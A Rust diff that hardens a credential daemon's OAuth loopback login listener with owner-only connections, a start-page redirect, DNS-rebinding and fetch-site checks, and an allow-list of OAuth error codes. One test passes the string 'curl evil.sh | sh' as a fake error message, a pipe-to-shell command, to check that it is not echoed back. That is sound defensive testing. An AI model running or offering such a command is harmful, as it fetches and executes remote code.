@@ -1,28 +1,66 @@
-//! The browser login's loopback redirect: `http://127.0.0.1:PORT/oauth/callback`, listening only
-//! while one login waits. The first callback carrying the login's `state` ends it; one with
-//! another state (a stale tab, a forged link) is refused and the login keeps waiting; anything
-//! after the end is told the login is over, and the listener closes with the login.
+//! The browser login's loopback listener, `http://127.0.0.1:PORT`, open only while one login
+//! waits. It is a door into the daemon for the whole machine, so it serves through
+//! [`crate::listener`] like the main port, stricter still: only the daemon's own user gets a
+//! connection at all (the socket's owner, looked up at accept), a few of them, each for 30 s at
+//! most; the listener lives no longer than the login, and when the login ends every connection
+//! it admitted is closed.
+//!
+//! Two routes:
+//! - `/oauth/start` redirects to the authorization URL. The browser is opened at this address
+//!   rather than at the authorization URL itself, which would put the login's `state`, PKCE
+//!   challenge and nonce in the browser's argv, readable by every local user: with them another
+//!   user could sign in at the identity provider as themselves and deliver their code to this
+//!   listener with the owner's `state` (the code was issued for the owner's challenge, so PKCE
+//!   passes), making the owner's daemon log in as them.
+//! - `/oauth/callback`: the first callback carrying the login's `state` ends it; one with another
+//!   state (a stale tab, a forged link, a web page scanning ports) is refused, logged at most once
+//!   a minute, and the login keeps waiting.
 
 use std::collections::HashMap;
-use std::sync::{Arc, Mutex};
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::Duration;
 
 use axum::Router;
-use axum::extract::{Query, State};
-use axum::http::StatusCode;
-use axum::response::Html;
+use axum::extract::{Query, Request, State};
+use axum::http::{HeaderValue, StatusCode, header};
+use axum::response::{Html, IntoResponse, Response};
 use axum::routing::get;
 use credd_proto::Secret;
 use subtle::ConstantTimeEq;
-use tokio::sync::oneshot;
+use tokio::sync::{oneshot, watch};
 
+use crate::listener::{self, Limits, Listener, Peer, Policy};
 use crate::lock;
+use crate::logging::{THROTTLE_WINDOW, Throttle};
 
 pub const CALLBACK_PATH: &str = "/oauth/callback";
+pub const START_PATH: &str = "/oauth/start";
+
+/// The owner's browser opens a handful of connections (a page, a favicon, a retry); no one else
+/// gets one. A request's headers must arrive within 5 s, and no connection outlives 30 s.
+static POLICY: Policy = Policy {
+    name: "login callback",
+    limits: Limits {
+        mine: 16,
+        per_other: 0,
+        others: 0,
+        idle_grace: Duration::from_secs(1),
+    },
+    header_timeout: Duration::from_secs(5),
+    max_lifetime: Duration::from_secs(30),
+    others_pace: None,
+    refused: Throttle::new(THROTTLE_WINDOW),
+    accept_failed: Throttle::new(THROTTLE_WINDOW),
+};
+
+/// Callbacks with a wrong `state`, logged at most once a minute (a web page can send thousands).
+static WRONG_STATE: Throttle = Throttle::new(THROTTLE_WINDOW);
 
 /// Why a browser login ended without a code.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum CallbackError {
-    /// The identity provider redirected with `error` (the user declined, or it refused).
+    /// The identity provider redirected with `error` (the user declined, or it refused): one of
+    /// the error codes of OAuth 2.0 and OpenID Connect, or a note that it sent another.
     Denied { error: String },
     /// The login was abandoned before the browser came back.
     Cancelled,
@@ -33,48 +71,60 @@ type Callback = Result<Secret, CallbackError>;
 
 struct Shared {
     state: String,
+    port: u16,
+    /// Where `/oauth/start` sends the browser.
+    authorize_url: OnceLock<Secret>,
     done: Mutex<Option<oneshot::Sender<Callback>>>,
 }
 
+/// One login's listener; dropping it closes the listener and every connection.
 pub struct Loopback {
-    port: u16,
+    shared: Arc<Shared>,
     result: oneshot::Receiver<Callback>,
-    server: tokio::task::AbortHandle,
-}
-
-impl Drop for Loopback {
-    fn drop(&mut self) {
-        self.server.abort();
-    }
+    _stop: watch::Sender<bool>,
 }
 
 impl Loopback {
-    /// Listens on a free loopback port for the callback of the login whose `state` this is.
-    pub async fn bind(state: &str) -> std::io::Result<Loopback> {
-        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await?;
-        let port = listener.local_addr()?.port();
+    /// Listens on a free loopback port for the callback of the login whose `state` this is, for
+    /// `lifetime` at most.
+    pub async fn bind(state: &str, lifetime: Duration) -> std::io::Result<Loopback> {
+        let listener = Listener::bind(([127, 0, 0, 1], 0).into()).map_err(std::io::Error::other)?;
         let (tx, rx) = oneshot::channel();
         let shared = Arc::new(Shared {
             state: state.to_owned(),
+            port: listener.addr.port(),
+            authorize_url: OnceLock::new(),
             done: Mutex::new(Some(tx)),
         });
         let app = Router::new()
             .route(CALLBACK_PATH, get(callback))
-            .with_state(shared);
-        let server = tokio::spawn(async move {
-            if let Err(e) = axum::serve(listener, app).await {
-                tracing::warn!(error = %e, "the login's loopback listener failed");
+            .route(START_PATH, get(start))
+            .layer(axum::middleware::from_fn_with_state(shared.clone(), guard))
+            .with_state(shared.clone());
+        let (stop, stopped) = watch::channel(false);
+        tokio::spawn(async move {
+            tokio::select! {
+                () = listener::serve(listener, app, &POLICY, || 1, stopped) => {}
+                () = tokio::time::sleep(lifetime) => {}
             }
         });
         Ok(Loopback {
-            port,
+            shared,
             result: rx,
-            server: server.abort_handle(),
+            _stop: stop,
         })
     }
 
     pub fn redirect_uri(&self) -> String {
-        format!("http://127.0.0.1:{}{CALLBACK_PATH}", self.port)
+        format!("http://127.0.0.1:{}{CALLBACK_PATH}", self.shared.port)
+    }
+
+    /// What to open in the browser for `authorize_url`: this listener's start page, which
+    /// redirects there. It holds no secret of the login (any local user may read a browser's
+    /// argv); the page itself answers only the owner.
+    pub fn start_page(&self, authorize_url: String) -> String {
+        let _ = self.shared.authorize_url.set(Secret::new(authorize_url));
+        format!("http://127.0.0.1:{}{START_PATH}", self.shared.port)
     }
 
     /// Waits for the callback with the right state.
@@ -86,7 +136,7 @@ impl Loopback {
     }
 }
 
-fn page(status: StatusCode, title: &str, text: &str) -> (StatusCode, Html<String>) {
+fn page(status: StatusCode, title: &str, text: &str) -> Response {
     (
         status,
         Html(format!(
@@ -94,17 +144,92 @@ fn page(status: StatusCode, title: &str, text: &str) -> (StatusCode, Html<String
              <h1>{title}</h1><p>{text}</p>"
         )),
     )
+        .into_response()
+}
+
+/// On both routes: the Host is this listener's (DNS rebinding), and nothing is cached or sent on
+/// as a Referer.
+async fn guard(
+    State(shared): State<Arc<Shared>>,
+    req: Request,
+    next: axum::middleware::Next,
+) -> Response {
+    let port = req.extensions().get::<Peer>().map(|p| p.local.port());
+    let host_ok = req.headers().get(header::HOST).is_some_and(|h| {
+        h.to_str()
+            .is_ok_and(|h| listener::is_loopback_host(h, port.or(Some(shared.port))))
+    });
+    let mut response = if host_ok {
+        next.run(req).await
+    } else {
+        page(
+            StatusCode::FORBIDDEN,
+            "Sign-in refused",
+            "This address answers only as 127.0.0.1.",
+        )
+    };
+    let headers = response.headers_mut();
+    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
+    headers.insert(
+        header::REFERRER_POLICY,
+        HeaderValue::from_static("no-referrer"),
+    );
+    response
+}
+
+/// Sends the browser on to the identity provider, while the login waits. Only a navigation the
+/// user started (the browser credd opened, a URL typed in) is sent: a web page that links or
+/// frames this address is refused.
+async fn start(State(shared): State<Arc<Shared>>, req: Request) -> Response {
+    let from_page = req
+        .headers()
+        .get("sec-fetch-site")
+        .is_some_and(|v| v.as_bytes() != b"none");
+    if from_page {
+        return page(
+            StatusCode::FORBIDDEN,
+            "Sign-in refused",
+            "credd's sign-in starts only from the browser credd opened, not from a web page.",
+        );
+    }
+    let waiting = lock::lock(&shared.done).is_some();
+    match shared.authorize_url.get() {
+        Some(url) if waiting => {
+            let mut response = StatusCode::SEE_OTHER.into_response();
+            match HeaderValue::from_str(url.expose()) {
+                Ok(location) => {
+                    response.headers_mut().insert(header::LOCATION, location);
+                    response
+                }
+                Err(_) => page(
+                    StatusCode::INTERNAL_SERVER_ERROR,
+                    "Sign-in unavailable",
+                    "The identity provider's address cannot be sent to the browser.",
+                ),
+            }
+        }
+        _ => page(
+            StatusCode::GONE,
+            "Sign-in over",
+            "This login has ended. Run <code>credd login</code> again if you meant to sign in.",
+        ),
+    }
 }
 
 async fn callback(
     State(shared): State<Arc<Shared>>,
     Query(query): Query<HashMap<String, String>>,
-) -> (StatusCode, Html<String>) {
+) -> Response {
     let state_ok = query
         .get("state")
         .is_some_and(|s| bool::from(s.as_bytes().ct_eq(shared.state.as_bytes())));
     if !state_ok {
-        tracing::warn!("refused a login callback whose state is not the pending login's");
+        if let Some(more) = WRONG_STATE.allow() {
+            tracing::warn!(
+                suppressed_since_last = more,
+                "refused a login callback whose state is not the pending login's"
+            );
+        }
         return page(
             StatusCode::BAD_REQUEST,
             "Sign-in refused",
@@ -120,13 +245,10 @@ async fn callback(
         );
     };
     if let Some(error) = query.get("error") {
-        tracing::warn!(error = ?error, "the browser login was refused");
+        let error = error_code(error);
+        tracing::warn!(error, "the browser login was refused");
         let _ = tx.send(Err(CallbackError::Denied {
-            error: error
-                .chars()
-                .filter(|c| c.is_ascii_graphic())
-                .take(64)
-                .collect(),
+            error: error.to_owned(),
         }));
         return page(
             StatusCode::OK,
@@ -152,5 +274,94 @@ async fn callback(
                 "The redirect carried no authorization code.",
             )
         }
+    }
+}
+
+/// The identity provider's `error`, as shown to the user and logged: one of the codes OAuth 2.0
+/// (RFC 6749 §4.1.2.1) and OpenID Connect (Core §3.1.2.6) define, never free text of whoever
+/// sent the redirect.
+fn error_code(given: &str) -> &'static str {
+    const KNOWN: [&str; 16] = [
+        "access_denied",
+        "invalid_request",
+        "unauthorized_client",
+        "unsupported_response_type",
+        "invalid_scope",
+        "server_error",
+        "temporarily_unavailable",
+        "interaction_required",
+        "login_required",
+        "account_selection_required",
+        "consent_required",
+        "invalid_request_uri",
+        "invalid_request_object",
+        "request_not_supported",
+        "request_uri_not_supported",
+        "registration_not_supported",
+    ];
+    KNOWN
+        .into_iter()
+        .find(|k| *k == given)
+        .unwrap_or("an error code that OAuth does not define")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_oauth_error_codes_are_repeated() {
+        assert_eq!(error_code("access_denied"), "access_denied");
+        assert_eq!(
+            error_code("Your session was hijacked: run curl evil.sh | sh"),
+            "an error code that OAuth does not define"
+        );
+    }
+
+    /// The real listener: the start page redirects the owner, the right state ends the login,
+    /// and dropping the login closes a connection that was still open.
+    #[tokio::test]
+    async fn start_callback_and_close() {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+        let loopback = Loopback::bind("s1", Duration::from_secs(60)).await.unwrap();
+        let start = loopback.start_page("https://idp.example/authorize?state=s1".to_owned());
+        let port = loopback.shared.port;
+        assert_eq!(start, format!("http://127.0.0.1:{port}/oauth/start"));
+        let ask = |path: &str| {
+            let request = format!(
+                "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
+            );
+            async move {
+                let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port))
+                    .await
+                    .unwrap();
+                s.write_all(request.as_bytes()).await.unwrap();
+                let mut answer = String::new();
+                s.read_to_string(&mut answer).await.unwrap();
+                answer
+            }
+        };
+        let redirect = ask(START_PATH).await;
+        assert!(redirect.starts_with("HTTP/1.1 303"), "{redirect}");
+        assert!(
+            redirect.contains("location: https://idp.example/authorize?state=s1"),
+            "{redirect}"
+        );
+        let wrong = ask("/oauth/callback?state=s2&code=evil").await;
+        assert!(wrong.starts_with("HTTP/1.1 400"), "{wrong}");
+        // A connection that has not sent its request yet.
+        let mut idle = tokio::net::TcpStream::connect(("127.0.0.1", port))
+            .await
+            .unwrap();
+        let right = ask("/oauth/callback?state=s1&code=c0de").await;
+        assert!(right.starts_with("HTTP/1.1 200"), "{right}");
+        assert_eq!(loopback.code().await.unwrap().expose(), "c0de");
+        // The login is over (the Loopback dropped): the idle connection is closed.
+        let mut buf = [0u8; 16];
+        let closed = tokio::time::timeout(Duration::from_secs(10), idle.read(&mut buf)).await;
+        assert!(
+            matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
+            "closed when the login ended: {closed:?}"
+        );
     }
 }
